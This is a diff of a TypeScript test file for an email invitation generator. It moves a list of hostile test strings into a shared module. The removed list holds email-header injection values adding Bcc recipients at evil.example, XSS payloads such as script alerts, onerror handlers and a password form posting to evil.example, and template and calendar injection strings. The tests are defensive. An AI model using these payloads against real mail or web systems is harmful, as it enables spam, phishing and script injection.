@@ -3,74 +3,9 @@ import { describe, test } from "node:test";
 import ICAL from "ical.js";
 import { inviteMail } from "../../../relay/outbox/mail/invite-mail.ts";
 import type { InviteMailFacts } from "../../../relay/outbox/mail/invite-mail.ts";
+import { HOSTILE, IN_WORDS } from "../../support/hostile-texts.ts";
 import { folded, readMail } from "./read-mail.ts";
 import { facts, JOIN_URL, sampleMail } from "./samples.ts";
-
-const HOSTILE: string[] = [
-  // Headers
-  "Ana\r\nBcc: everybody@evil.example",
-  "Ana\nBcc: everybody@evil.example",
-  "Ana\rSubject: You have won",
-  "Ana\r\n\r\n<h1>A body of its own</h1>",
-  "Ana\u0000Bcc: everybody@evil.example",
-  "Ana\u0085Bcc: x@evil.example\u2028Cc: y@evil.example\u2029To: z@evil.example",
-  "Ana\u000bX-Evil: 1\u000cX-Worse: 2",
-  "=?utf-8?Q?Ana=0D=0ABcc:_everybody@evil.example?=",
-  "=?utf-8?B?QW5hDQpCY2M6IGV2ZXJ5Ym9keUBldmlsLmV4YW1wbGU=?=",
-  'Ana <everybody@evil.example>, "Bob" <bob@evil.example>',
-  '"Ana" <ana@evil.example>',
-  "Ana, Bob; Carl: Dora (a comment) [x] \\ @",
-  "undisclosed-recipients:;",
-  "everybody@evil.example",
-  // HTML
-  "<script>alert(1)</script>",
-  "<img src=x onerror=alert(1)>",
-  '<a href="https://evil.example">Click here</a>',
-  '"><svg/onload=alert(1)>',
-  "'\"></a></td></table><style>*{display:none}</style>",
-  "</title><script>alert(1)</script>",
-  "</style><link rel=stylesheet href=//evil.example/x.css>",
-  "--><iframe src=https://evil.example></iframe><!--",
-  "<!--[if mso]><v:shape onload=x><![endif]-->",
-  "&lt;script&gt; &amp; &quot; &#60;b&#62; &nbsp; &copy",
-  "<![CDATA[<b>x</b>]]><?php echo 1 ?>",
-  "javascript:alert(1)",
-  "<BASE HREF=https://evil.example/><META HTTP-EQUIV=refresh CONTENT=0>",
-  "<form action=https://evil.example><input name=password></form>",
-  // Templates
-  "{{joinUrl}}",
-  "{{guestName}} {{hostName}} {{{clinicName}}}",
-  "{{ unknown }} {{}} {{ {{joinUrl}} }}",
-  "${process.env.HOME} <%= 1 %> #{1} %recipient.email% {% raw %}",
-  "$& $1 $` $' $$",
-  // Directions and odd letters
-  "\u202egnp.exe\u202c \u2066x\u2069",
-  "محمد بن عبد الله",
-  "שלום <b>עולם</b>",
-  "Dr. محمد (Ana) 12:00",
-  "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 \u{1f9d1}\u200d⚕️",
-  "Zoë Ångström-Müller ß ı İ ǆ ﬁ",
-  "e\u0301\u0327 Z\u0334\u0335\u0336\u0337a\u0338l\u0338g\u0334o\u0334",
-  "\ud800 lone \udc00 halves",
-  "\ufeffAna\u200b\u200c\u200d\u2060",
-  "日本語の名前と中文名字、한국어",
-  // Quoted-printable and lines
-  "=3D =20 =\r\n soft =E2=80=94",
-  "A line that ends in a blank \nand a tab\t\nand equals=\nand a dot\n.\n..\nFrom me",
-  ".",
-  "--boundary--\r\n--=_Part_1\r\nContent-Type: text/html",
-  `${"x".repeat(76)}=${"y".repeat(76)}`,
-  "word ".repeat(2_000).trim(),
-  "é".repeat(10_000),
-  "W".repeat(10_000),
-  // Calendars
-  "END:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:Another\r\nEND:VEVENT",
-  'a;b,c\\d\\nCN="x";ROLE=CHAIR:mailto:everybody@evil.example',
-  "  \t  ",
-];
-
-/** The same in the middle of an ordinary text, where another rule may catch it, or none. */
-const IN_WORDS = HOSTILE.filter((text) => text.length < 200).map((text) => `Dr. ${text} and family`);
 
 const PLACES: { place: string; put: (text: string) => Partial<InviteMailFacts> }[] = [
   { place: "guest's name", put: (name) => ({ invite: { ...facts().invite, name } }) },
@@ -120,7 +55,7 @@ const shape = (counts: Record<string, number>) => Object.fromEntries(Object.entr
 /** The link of a `{{joinUrl}}` that the message's writer put there. */
 const OWN_LINK = ["a", "a class", "a href", "a style"];
 
-describe("Whatever somebody is called or writes", () => {
+describe("Whatever somebody is called or writes, in a mail (A12, TEXT2)", () => {
   const cases = [...HOSTILE, ...IN_WORDS].flatMap((text) => PLACES.map(({ place, put }) => ({ text, place, different: put(text) })));
   assert(cases.length >= 500, `only ${cases.length} cases`);
 
